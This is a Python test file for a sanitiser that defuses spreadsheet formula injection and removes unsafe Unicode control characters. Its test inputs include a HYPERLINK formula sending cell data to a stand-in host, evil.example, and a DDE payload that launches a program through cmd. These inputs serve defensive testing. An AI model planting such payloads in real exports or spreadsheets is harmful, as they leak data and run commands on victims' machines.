"""The one spreadsheet-cell rule and the unsafe characters (backend/safe_text.py)."""

from __future__ import annotations

import pytest

from backend.safe_text import spreadsheet_cell, unsafe_character, without_unsafe


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_formula_starts_are_neutralised(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert cell.startswith("'")
    assert cell[1:] == without_unsafe(value)


@pytest.mark.parametrize("value", ["-0.05", "-1234.56", "+12", "1e5", "善心会", "", "a=b"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_non_text_cells_are_unchanged() -> None:
    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(None) is None


def test_unsafe_characters_are_removed_from_cells() -> None:
    assert spreadsheet_cell("善心\u202e会\x07") == "善心会"


@pytest.mark.parametrize(
    "character", ["\u202e", "\u2066", "\x07", "\x00", "\x7f", "\u0085", "\ufeff"]
)
def test_unsafe_characters(character: str) -> None:
    assert unsafe_character(f"a{character}b") == character


@pytest.mark.parametrize("text", ["第一行\n第二行", "列\t列", "回车\r\n", "普通文字 English 123"])
def test_ordinary_text_is_safe(text: str) -> None:
    assert unsafe_character(text) is None
